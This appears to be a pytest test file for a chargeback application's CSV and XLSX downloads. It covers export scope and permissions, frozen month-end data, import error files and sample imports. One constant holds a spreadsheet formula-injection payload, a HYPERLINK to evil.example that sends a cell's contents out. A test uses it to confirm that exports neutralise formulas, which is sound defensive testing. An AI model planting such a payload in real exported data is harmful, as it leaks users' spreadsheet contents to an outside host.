"""Downloads of what a page shows (CSV and XLSX): the pack's numbers, the page's scope,
what the close froze, formula-safe text; and the sample import files, which import."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select, update

from chargeback.extensions import db
from chargeback.importing import samples
from chargeback.models import Consumer, ConsumerSnapshot, PackFile, Unit
from chargeback.services.users import create_user
from chargeback.vocabulary import IMPORT_KINDS
from tests.chargeback.web.conftest import PASSWORD, USERS, csrf_from, sign_in
from tests.conftest import FAST_HASH

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv" and "attachment" in \
        response.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def workbook(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype.endswith("spreadsheetml.sheet")
    return openpyxl.load_workbook(io.BytesIO(response.get_data()))


def sheet_rows(ws) -> list[tuple]:
    return [tuple(cell.value for cell in row) for row in ws.iter_rows()]


def pack_sheet(session, title: str) -> list[tuple]:
    path = Path(session.scalar(select(PackFile.path).where(PackFile.period == "2026-03")))
    return sheet_rows(openpyxl.load_workbook(path)[title])


def test_portfolio_is_the_packs_portfolio_sheet(company, signed_in, session):
    client = signed_in("finance")
    pack = pack_sheet(session, "Portfolio")
    book = workbook(client.get("/portfolio/export.xlsx?period=2026-03"))
    assert sheet_rows(book["Portfolio"]) == pack
    rows = csv_rows(client.get("/portfolio/export.csv?period=2026-03"))
    assert rows[0] == list(pack[0])
    spend = rows[0].index("Spend")
    for line, cells in zip(rows[1:], pack[1:], strict=True):
        assert line[0] == cells[0]
        assert Decimal(line[spend]) == Decimal(str(cells[spend])).quantize(Decimal("0.01"))


def test_a_unit_heads_downloads_hold_their_units_only(company, signed_in):
    head = signed_in("unit_head")
    rows = csv_rows(head.get("/portfolio/export.csv"))
    assert {r[0] for r in rows[1:]} == {"GRP", "ALT", "LAB"}
    assert head.get("/units/WW/export.csv").status_code == 403
    assert head.get("/units/WW/charges/export.xlsx").status_code == 403
    assert head.get("/units/ALT/charges/export.csv").status_code == 200
    assert head.get("/portfolio/export.csv?group=WW").status_code == 403
    group = csv_rows(head.get("/portfolio/export.csv?group=GRP"))
    assert {r[0] for r in group[1:]} == {"GRP", "ALT", "LAB"}
    assert head.get("/audit/export.csv").status_code == 403


def test_unit_download_is_the_page_and_the_pack(company, signed_in, session):
    client = signed_in("central_it")
    book = workbook(client.get("/units/ALT/export.xlsx?period=2026-03"))
    assert book.sheetnames == ["Rating 2026-03", "Spend", "By service", "By consumer"]
    rating = sheet_rows(book["Rating 2026-03"])
    assert [r[:4] for r in rating] == [r[:4] for r in pack_sheet(session, "ALT")]
    page = client.get("/units/ALT?period=2026-03").get_data(as_text=True)
    for code, _, _, _lines, amount in sheet_rows(book["By consumer"])[1:]:
        assert code in page and f"{Decimal(str(amount)):,.2f}" in page
    text = csv_rows(client.get("/units/ALT/export.csv?period=2026-03"))
    assert ["Rating 2026-03"] in text and ["By consumer"] in text  # one section each


def test_charges_are_the_packs_lines_as_the_close_froze_them(company, signed_in, session):
    pack = [r for r in pack_sheet(session, "Charges")[1:] if r[0] == "DC"]
    # today's consumer is renamed: the closed month keeps the name it was charged under
    session.execute(update(Consumer).where(Consumer.code == "LAB1").values(name="Renamed"))
    session.execute(update(Unit).where(Unit.code == "DC").values(name="Renamed DC"))
    session.commit()
    client = signed_in("finance")
    book = workbook(client.get("/units/DC/charges/export.xlsx?period=2026-03"))
    assert sheet_rows(book["Charges"])[1:] == pack and pack
    rows = csv_rows(client.get("/units/DC/charges/export.csv"))
    assert "Renamed" not in {r[3] for r in rows}
    amount = rows[0].index("Amount")
    assert [Decimal(r[amount]) for r in rows[1:]] == [
        Decimal(str(r[amount])).quantize(Decimal("0.01")) for r in pack]


def test_text_is_never_a_formula(company, signed_in, session):
    session.execute(update(ConsumerSnapshot).where(
        ConsumerSnapshot.period == "2026-03", ConsumerSnapshot.code == "LAB1"
    ).values(name=HOSTILE))
    session.commit()
    client = signed_in("finance")
    rows = csv_rows(client.get("/units/DC/charges/export.csv"))
    names = {r[3] for r in rows[1:]}
    assert "'" + HOSTILE in names and HOSTILE not in names
    ws = workbook(client.get("/units/DC/charges/export.xlsx"))["Charges"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    consumers = csv_rows(client.get("/units/DC/export.csv"))
    assert ["LAB1", "'" + HOSTILE] == [r for r in consumers if r[:1] == ["LAB1"]][0][:2]


def test_batch_errors_and_the_audit_trail(company, signed_in):
    head = signed_in("unit_head")
    token = csrf_from(head.get("/imports").get_data(as_text=True))
    bad = "period,unit_code,measure,value\n2026-04,ALT,seats,x\n2026-04,WW,seats,1\n"
    response = head.post("/imports", data={"kind": "metrics", "csrf_token": token,
                                           "file": (io.BytesIO(bad.encode()), "bad.csv")},
                         content_type="multipart/form-data")
    batch = response.headers["Location"].rsplit("/", 1)[-1]
    rows = csv_rows(head.get(f"/imports/{batch}/errors.csv"))
    assert rows[0] == ["Line", "Column", "Message"]
    assert [r[:2] for r in rows[1:]] == [["2", "value"], ["3", "unit_code"]]
    assert workbook(head.get(f"/imports/{batch}/errors.xlsx"))["Errors"].max_row == 3
    assert signed_in("other_head").get(f"/imports/{batch}/errors.csv").status_code == 403
    trail = csv_rows(signed_in("admin").get("/audit/export.csv?action=import.metrics.refused"))
    assert [r[2] for r in trail[1:]] == ["import.metrics.refused"]
    assert trail[1][4] == "bad.csv" and trail[1][8] == "2"
    everything = csv_rows(signed_in("admin").get("/audit/export.csv"))
    assert len(everything) > 15 and "period.close" in {r[2] for r in everything}


@pytest.mark.parametrize("url", ["/portfolio/export.pdf", "/units/ALT/export.json",
                                 "/imports/samples/nothing.csv", "/units/NOPE/export.csv"])
def test_unknown_formats_kinds_and_units_are_404(company, signed_in, url):
    assert signed_in("admin").get(url).status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_sample_imports_into_an_empty_database(app, session, fmt):
    """The Imports page's samples, downloaded and imported in kind order, are stored."""
    email, role, _ = USERS["central_it"]
    create_user(db.session, email, role, PASSWORD, "test", [], hash_method=FAST_HASH)
    db.session.commit()
    client = sign_in(app.test_client(), "central_it")
    page = client.get("/imports").get_data(as_text=True)
    for kind in IMPORT_KINDS:
        url = f"/imports/samples/{kind}.{fmt}"
        assert url in page
        sample = client.get(url)
        assert sample.status_code == 200
        token = csrf_from(client.get("/imports").get_data(as_text=True))
        response = client.post("/imports", data={
            "kind": kind, "csrf_token": token,
            "file": (io.BytesIO(sample.get_data()), f"sample-{kind}.{fmt}")},
            content_type="multipart/form-data")
        batch = client.get(response.headers["Location"]).get_data(as_text=True)
        assert "are stored" in batch, (kind, batch[batch.find("Refused"):][:800])
    assert session.scalar(select(Unit.code).where(Unit.code == "PLANT")) == "PLANT"


def test_samples_follow_the_importers_columns():
    from chargeback.importing.schemas import columns

    for kind in IMPORT_KINDS:
        required, optional = columns(kind)
        text = samples.csv_text(kind)
        assert text.splitlines()[0] == ",".join(required + optional)
        assert len(text.splitlines()) == 1 + len(samples.EXAMPLES[kind])
